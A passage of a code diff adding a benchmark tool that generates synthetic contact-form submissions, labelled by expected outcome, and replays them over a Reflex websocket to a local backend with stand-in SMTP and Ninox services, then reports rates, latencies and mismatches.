+        if stand_ins is not None:
+            await stand_ins.stop()
+
+
+def _generate_command(args: argparse.Namespace) -> int:
+    written = write_corpus(args.output, generate(args.seed, args.count, args.profile, args.rate, args.edge_ratio))
+    _, records = read_corpus(args.output)
+    labels = Counter(record["expect"] for record in records)
+    print(f"Wrote {written} records ({args.profile}, {args.rate}/s, seed {args.seed}) to {args.output} "
+          f"({os.path.getsize(args.output) / 1024:.0f} KiB)")
+    for label in (ACCEPTED, SPAM, INVALID, THROTTLED):
+        print(f"  {label:<10} {labels[label]:>7}")
+    return 0
+
+
+def _replay_command(args: argparse.Namespace) -> int:
+    from benchmarks.event_load import _raise_open_file_limit
+
+    try:
+        import aiohttp  # noqa: F401  # transport of socketio.AsyncClient
+        import socketio  # noqa: F401
+    except ImportError:
+        print("The replayer needs python-socketio and aiohttp: pip install python-socketio aiohttp")
+        return 1
+
+    header, records = read_corpus(args.corpus)
+    if args.limit:
+        records = records[:args.limit]
+    # State classes are only imported for their names; no app is started
+    os.environ.setdefault("PYTEST_CURRENT_TEST", "benchmarks.lead_corpus")
+    _raise_open_file_limit()
+    results = asyncio.run(_replay_with_stand_ins(args, header, records))
+
+    print(f"Replayed {results['records']} records in {results['elapsed_seconds']}s: "
+          f"{results['achieved_rate']}/s (target {results['target_rate']}/s), "
+          f"schedule lag p95 {results['schedule_lag']['p95_ms']} ms")
+    print(f"  {'expected':<10} {'count':>7} {'outcomes':<36} {'p50 ms':>9} {'p95 ms':>9}")
+    for label, count in sorted(results["expected"].items()):
+        seen = ", ".join(f"{outcome} {n}" for outcome, n in sorted(results["outcomes"].get(label, {}).items()))
+        latency = results["latency"].get(label, {"p50_ms": "-", "p95_ms": "-"})
+        print(f"  {label:<10} {count:>7} {seen:<36} {latency['p50_ms']:>9} {latency['p95_ms']:>9}")
+    if "stand_ins" in results:
+        print(f"Stand-ins received:      {results['stand_ins']['emails']} emails, "
+              f"{results['stand_ins']['ninox_records']} Ninox records "
+              f"(expected {results['expected'].get(ACCEPTED, 0)})")
+    if results["mismatches"]:
+        kinds = Counter(mismatch["kind"] for mismatch in results["mismatches"])
+        print(f"{len(results['mismatches'])} records did not get the expected answer: "
+              + ", ".join(f"{kind} {n}" for kind, n in kinds.most_common()))
+
+    if args.json:
+        with open(args.json, "w", encoding="utf-8") as f:
+            json.dump(results, f, indent=2, ensure_ascii=False)
+        print(f"\nResults saved to {args.json}")
+    return 0
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Generate and replay synthetic contact requests")
+    commands = parser.add_subparsers(dest="command", required=True)
+
+    generate_parser = commands.add_parser("generate", help="Write a corpus file")
+    generate_parser.add_argument("--seed", type=int, default=1, help="Random seed (default: 1)")
+    generate_parser.add_argument("--count", type=int, default=1000, help="Number of records (default: 1000)")
+    generate_parser.add_argument("--profile", choices=PROFILES, default="steady",
+                                 help="Arrival pattern (default: steady)")
+    generate_parser.add_argument("--rate", type=float, default=2.0, help="Mean submissions per second (default: 2)")
+    generate_parser.add_argument("--edge-ratio", type=float, default=EDGE_RATIO,
+                                 help=f"Share of edge cases and bots (default: {EDGE_RATIO})")
+    generate_parser.add_argument("--output", default=CORPUS_FILE, help=f"Corpus file (default: {CORPUS_FILE})")
+
+    replay_parser = commands.add_parser("replay", help="Submit a corpus over the Reflex websocket")
+    replay_parser.add_argument("--corpus", default=CORPUS_FILE, help=f"Corpus file (default: {CORPUS_FILE})")
+    replay_parser.add_argument("--url", default="http://127.0.0.1:8000",
+                               help="Backend URL (default: http://127.0.0.1:8000)")
+    replay_parser.add_argument("--rate", type=float, help="Target submissions per second (default: as generated)")
+    replay_parser.add_argument("--limit", type=int, help="Only replay the first N records")
+    replay_parser.add_argument("--timeout", type=float, default=30.0, help="Seconds to wait for answers (default: 30)")
+    replay_parser.add_argument("--no-stand-ins", action="store_true", help="Do not serve the Ninox and SMTP stand-ins")
+    replay_parser.add_argument("--smtp-port", type=int, default=SMTP_PORT,
+                               help=f"SMTP stand-in port (default: {SMTP_PORT})")
+    replay_parser.add_argument("--ninox-port", type=int, default=NINOX_PORT,
+                               help=f"Ninox stand-in port (default: {NINOX_PORT})")
+    replay_parser.add_argument("--json", help="Write the results to this JSON file")
+    args = parser.parse_args()
+
+    if args.command == "generate":
+        return _generate_command(args)
+    return _replay_command(args)
+
+
+if __name__ == "__main__":
+    sys.exit(main())